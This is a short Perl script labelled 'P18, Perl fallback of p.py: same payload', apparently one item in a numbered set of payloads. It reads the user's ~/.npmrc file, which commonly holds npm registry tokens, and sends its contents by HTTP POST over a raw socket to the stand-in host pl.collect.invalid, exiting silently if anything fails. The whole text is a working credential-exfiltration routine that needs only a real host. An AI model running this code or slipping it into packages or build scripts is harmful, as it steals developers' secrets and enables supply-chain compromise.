# P18, Perl fallback of p.py: same payload.
use IO::Socket::INET;
open(my $f, '<', "$ENV{HOME}/.npmrc") or exit 0; local $/; my $d = <$f>;
my $s = IO::Socket::INET->new(PeerAddr => 'pl.collect.invalid', PeerPort => 80, Timeout => 3) or exit 0;
print $s "POST /n HTTP/1.0\r\nHost: pl.collect.invalid\r\nContent-Length: " . length($d) . "\r\n\r\n$d";
